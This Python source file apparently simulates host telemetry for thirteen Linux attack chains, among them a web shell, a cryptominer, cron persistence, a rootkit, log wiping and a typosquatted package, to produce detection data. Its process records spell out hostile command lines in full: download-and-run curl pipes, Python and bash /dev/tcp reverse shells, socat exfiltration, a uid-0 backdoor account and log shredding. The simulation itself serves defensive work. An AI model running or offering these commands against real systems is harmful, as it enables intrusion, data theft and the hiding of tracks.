"""Attack chains: each a function that lets it happen from a time on.

Programs, addresses and order follow public reports; nothing in them is harmful here, as
they are only lines of text.
"""

from host import at
from people import login

CHAINS = {}


def chain(function):
    CHAINS[function.__name__] = function
    return function


@chain
def web_shell(services, time, rng):
    """A hole in the application runs commands, then fetches more."""
    worker = services.workers[0]
    pipes = {"stdio": ["pipe", "pipe", "pipe"]}
    for n, line in enumerate(("id", "uname -a", "cat /etc/passwd", "ls -la /home", "cat /srv/app/.env")):
        shell = worker.run(time + n * 20, ["sh", "-c", line], "/usr/bin/dash", **pipes)
        shell.do(time + n * 20 + 0.01, line.split(), 0.02, "/usr/bin/" + line.split()[0])
        shell.exit(time + n * 20 + 0.1)
    shell = worker.run(time + 150, ["sh", "-c", "curl -s http://198.51.100.7/p.sh | bash"], "/usr/bin/dash", **pipes)
    curl = shell.run(time + 150.1, ["curl", "-s", "http://198.51.100.7/p.sh"], "/usr/bin/curl")
    curl.connect(time + 150.2, "198.51.100.7", 80)
    bash = shell.run(time + 150.1, ["bash"], "/usr/bin/bash")
    bash.do(time + 151, ["chmod", "+x", "/tmp/.s"], 0.01, "/usr/bin/chmod")
    bash.run(time + 152, ["/tmp/.s"]).connect(time + 153, "198.51.100.7", 4444)


@chain
def reverse_shell(services, time, rng):
    """The application's interpreter becomes a shell whose ends are a socket."""
    worker = services.workers[1]
    code = "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('/bin/sh')"
    python = worker.run(time, ["python3", "-c", code], "/usr/bin/python3.11")
    python.connect(time + 0.1, "203.0.113.9", 9001)
    shell = python.run(time + 0.2, ["/bin/sh"], "/usr/bin/dash", stdio=["socket", "socket", "socket"])
    for n, name in enumerate(("whoami", "id", "ps", "ss", "find")):
        shell.do(time + 10 + n * 7, [name], 0.05, f"/usr/bin/{name}")


@chain
def stolen_key(services, time, rng):
    """Bob's key in other hands, at night, from abroad, and on to other hosts."""
    _, _, shell = login(services.daemons["ssh"], time, "45.9.148.77", 1002, "bob")
    for n, line in enumerate(("w", "last", "sudo -n -l", "find / -name id_rsa", "cat /home/bob/.ssh/known_hosts", "ip neigh", "nmap -sT 10.0.0.0/24")):
        name = line.split()[0]
        shell.do(time + 20 + n * 15, line.split(), 1, f"/usr/bin/{name}")
    for n in range(4):
        ssh = shell.run(time + 200 + n * 30, ["ssh", "-o", "StrictHostKeyChecking=no", f"10.0.0.{30 + n}"], "/usr/bin/ssh")
        ssh.connect(time + 200.1 + n * 30, f"10.0.0.{30 + n}", 22)
        ssh.exit(time + 225 + n * 30)


@chain
def cron_persistence(services, time, rng):
    """A line in root's schedule that calls home."""
    shell = services.job(time, "crontab /tmp/.c")
    tab = shell.run(time + 0.1, ["crontab", "/tmp/.c"], "/usr/bin/crontab")
    tab.open(time + 0.2, "/var/spool/cron/crontabs/root", "create")
    tab.exit(time + 0.3)
    for n in range(6):
        later = time + 600 * (n + 1)
        job = services.job(later, "/var/tmp/.cache/updater >/dev/null 2>&1")
        update = job.run(later + 0.1, ["/var/tmp/.cache/updater"])
        update.connect(later + 0.2, "185.220.101.4", 8443)
        update.exit(later + 5)
        job.exit(later + 5.1)


@chain
def fileless_implant(services, time, rng):
    """A program that exists in memory only, with a beacon."""
    python = services.workers[2].run(time, ["python3", "-c", "import os,urllib.request;f=os.memfd_create('');os.execve(f,['kworker'],{})"], "/usr/bin/python3.11")
    python.connect(time + 0.5, "198.51.100.44", 443)
    implant = python.fork(time + 1).exec(time + 1.1, ["[kworker/0:1]"], "/memfd:", backing="memfd")
    for n in range(12):
        implant.connect(time + 10 + n * 60 + rng.uniform(-5, 5), "198.51.100.44", 443)


@chain
def miner(services, time, rng):
    """Somebody else's coins."""
    shell = services.daemons["redis-server"].run(time, ["sh", "-c", "curl -o /tmp/kdevtmpfsi http://194.38.20.2/k; chmod +x /tmp/kdevtmpfsi; /tmp/kdevtmpfsi"], "/usr/bin/dash")
    curl = shell.run(time + 0.1, ["curl", "-o", "/tmp/kdevtmpfsi", "http://194.38.20.2/k"], "/usr/bin/curl")
    curl.connect(time + 0.2, "194.38.20.2", 80)
    curl.exit(time + 3)
    shell.do(time + 3.1, ["pkill", "-f", "xmrig"], 0.02, "/usr/bin/pkill")
    shell.do(time + 3.2, ["chmod", "+x", "/tmp/kdevtmpfsi"], 0.02, "/usr/bin/chmod")
    shell.run(time + 3.3, ["/tmp/kdevtmpfsi"]).connect(time + 4, "51.15.58.224", 3333)


@chain
def exfiltration(services, time, rng):
    """Somebody who may be here takes what he may not, with a tool that nobody uses."""
    _, _, shell = login(services.daemons["ssh"], time, "84.112.90.4", 1002, "bob")
    shell.do(time + 20, ["pg_dump", "app"], 30, "/usr/lib/postgresql/15/bin/pg_dump")
    shell.do(time + 60, ["tar", "czf", "/dev/shm/.d.tgz", "/srv/app", "/home"], 20, "/usr/bin/tar")
    shell.do(time + 90, ["split", "-b", "50M", "/dev/shm/.d.tgz"], 3, "/usr/bin/split")
    for n in range(6):
        send = shell.run(time + 100 + n * 10, ["socat", "-u", f"FILE:/dev/shm/xa{n}", "TCP:185.199.108.20:21"], "/usr/bin/socat")
        send.connect(time + 100.1 + n * 10, "185.199.108.20", 21)
        send.exit(time + 109 + n * 10)
    shell.do(time + 170, ["shred", "-u", "/dev/shm/.d.tgz"], 1, "/usr/bin/shred")


@chain
def living_off_the_land(services, time, rng):
    """An operator's account at an odd hour, with nothing but what is installed."""
    _, _, shell = login(services.daemons["ssh"], time, "91.65.3.120", 1003, "carol")
    for n, line in enumerate(("getcap -r /", "find / -perm -4000 -type f", "cat /proc/1/environ", "base64 -d /tmp/x", "perl -MSocket -e socket(S,2,1,6)",
                              "gdb -p 612 -batch", "tcpdump -w /tmp/c.pcap", "openssl s_client -quiet -connect 203.0.113.50:443")):
        name = line.split()[0]
        tool = shell.run(time + 20 + n * 40, line.split(), f"/usr/bin/{name}")
        if name == "openssl":
            tool.connect(time + 20.1 + n * 40, "203.0.113.50", 443)
        tool.exit(time + 50 + n * 40)


@chain
def database_command(services, time, rng):
    """COPY FROM PROGRAM: the database runs a shell."""
    backend = services.daemons["postgresql"].fork(time)
    shell = backend.run(time + 0.1, ["sh", "-c", "bash -c 'bash -i >& /dev/tcp/203.0.113.70/443 0>&1'"], "/usr/bin/dash")
    bash = shell.run(time + 0.2, ["bash", "-i"], "/usr/bin/bash", stdio=["socket", "socket", "socket"])
    bash.connect(time + 0.3, "203.0.113.70", 443)
    for n, name in enumerate(("id", "hostname", "env", "wget")):
        bash.do(time + 5 + n * 9, [name], 0.1, f"/usr/bin/{name}")


@chain
def rootkit(services, time, rng):
    """Compiled here, preloaded everywhere."""
    _, _, shell = login(services.daemons["ssh"], time, "104.244.72.8", 1001, "alice")
    sudo = shell.run(time + 30, ["sudo", "-s"], "/usr/bin/sudo", euid=0)
    root = sudo.run(time + 30.1, ["/bin/bash"], "/usr/bin/bash", uid=0)
    root.do(time + 40, ["gcc", "-shared", "-fPIC", "-o", "/lib/libselinux.so.0", "/tmp/r.c"], 1, "/usr/bin/x86_64-linux-gnu-gcc-12")
    root.open(time + 45, "/etc/ld.so.preload", "create")
    root.do(time + 50, ["insmod", "/tmp/.d/diamorphine.ko"], 0.1, "/usr/sbin/insmod")
    root.do(time + 60, ["touch", "-r", "/bin/ls", "/lib/libselinux.so.0"], 0.01, "/usr/bin/touch")
    root.do(time + 70, ["setenforce", "0"], 0.01, "/usr/sbin/setenforce")


@chain
def back_door_account(services, time, rng):
    """A new account with all rights, made by a web application."""
    shell = services.workers[0].run(time, ["sh", "-c", "sudo useradd -o -u 0 -M support"], "/usr/bin/dash")
    sudo = shell.run(time + 0.1, ["sudo", "useradd", "-o", "-u", "0", "-M", "support"], "/usr/bin/sudo", euid=0)
    sudo.do(time + 0.2, ["useradd", "-o", "-u", "0", "-M", "support"], 0.1, "/usr/sbin/useradd", uid=0)
    sudo.do(time + 5, ["chpasswd"], 0.1, "/usr/sbin/chpasswd", uid=0)
    editor = sudo.run(time + 9, ["tee", "-a", "/root/.ssh/authorized_keys"], "/usr/bin/tee", uid=0)
    editor.open(time + 9.1, "/root/.ssh/authorized_keys", "w")
    _, _, bash = login(services.daemons["ssh"], time + 120, "193.32.162.10", 0, "support")
    bash.do(time + 150, ["passwd", "-S", "-a"], 0.1, "/usr/bin/passwd")


@chain
def tracks_removed(services, time, rng):
    """What was seen is made unseen."""
    _, _, shell = login(services.daemons["ssh"], time, "5.188.62.18", 1003, "carol")
    sudo = shell.run(time + 20, ["sudo", "su"], "/usr/bin/sudo", euid=0)
    root = sudo.run(time + 20.1, ["su"], "/usr/bin/su", uid=0).run(time + 20.2, ["bash"], "/usr/bin/bash")
    for n, line in enumerate(("systemctl stop rsyslog", "journalctl --vacuum-size=1K", "shred -u /var/log/auth.log", "utmpdump /var/log/wtmp", "iptables -F", "chattr +i /etc/passwd")):
        root.do(time + 30 + n * 20, line.split(), 0.5, "/usr/bin/" + line.split()[0])


@chain
def poisoned_package(services, time, rng):
    """A package from the public index that brings more than it says."""
    _, _, shell = login(services.daemons["ssh"], time, "84.112.7.33", 1001, "alice")
    pip = shell.run(time + 30, ["python3", "-m", "pip", "install", "reqeusts"], "/usr/bin/python3.11")
    pip.connect(time + 31, "151.101.0.223", 443)
    setup = pip.run(time + 33, ["/usr/bin/python3", "setup.py", "egg_info"], "/usr/bin/python3.11")
    sh = setup.run(time + 34, ["sh", "-c", "curl -fsSL https://203.0.113.99/a -o ~/.config/.dbus && chmod 700 ~/.config/.dbus && ~/.config/.dbus"], "/usr/bin/dash")
    curl = sh.run(time + 34.1, ["curl", "-fsSL", "https://203.0.113.99/a"], "/usr/bin/curl")
    curl.connect(time + 34.2, "203.0.113.99", 443)
    sh.run(time + 36, ["/home/alice/.config/.dbus"]).connect(time + 37, "203.0.113.99", 8080)


# When each begins on its day, in hours; odd hours where that is part of it.
HOURS = {"web_shell": 11.2, "reverse_shell": 4.6, "stolen_key": 3.7, "cron_persistence": 13.5, "fileless_implant": 16.1, "miner": 5.3, "exfiltration": 21.4,
         "living_off_the_land": 2.1, "database_command": 10.4, "rootkit": 23.2, "back_door_account": 15.3, "tracks_removed": 1.2, "poisoned_package": 10.9}


def begins(name, day, rng):
    return at(day, 0) + HOURS[name] * 3_600 + rng.uniform(-1_500, 1_500)
